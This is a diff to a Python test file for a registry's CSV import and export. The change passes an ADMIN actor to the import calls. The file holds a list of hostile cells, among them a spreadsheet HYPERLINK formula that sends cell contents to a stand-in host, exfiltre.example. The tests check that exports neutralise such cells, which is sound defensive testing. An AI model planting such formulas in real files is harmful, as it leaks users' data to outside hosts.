@@ -22,6 +22,7 @@ from operators.confidentiality import INTERNAL, PUBLIC
 from operators.exports import export_registry
 from operators.importer import import_file, prepare_import, write_rejects
 from operators.repository import Registry
+from tests.account_support import ADMIN
 
 EVIL = [
     '=HYPERLINK("http://exfiltre.example/?"&A1,"clic")',
@@ -65,7 +66,7 @@ def test_safe_frame_neutralises_headers_too():
 def registry(tmp_path, store):
     registry = Registry(tmp_path / "registre.gpkg")
     result = import_file(evil_csv(), registry, name="piege.csv", geocoder=None,
-                         rejects_dir=tmp_path)
+                         rejects_dir=tmp_path, actor=ADMIN)
     assert result.imported == len(EVIL) and result.rejected == 1
     yield registry
     registry.dispose()
@@ -94,7 +95,7 @@ def test_registry_csv_export_neutralises_and_imports_back_unchanged(registry, tm
         cells = [c for line in text.splitlines() for c in line.split(";")]
         assert_inert(cells)
     other = Registry(tmp_path / "copie.gpkg")
-    result = import_file(paths[0], other, geocoder=None, rejects_dir=tmp_path)
+    result = import_file(paths[0], other, geocoder=None, rejects_dir=tmp_path, actor=ADMIN)
     assert result.rejected == 0
     assert sorted(other.sites()["name"]) == sorted(registry.sites()["name"])
     other.dispose()
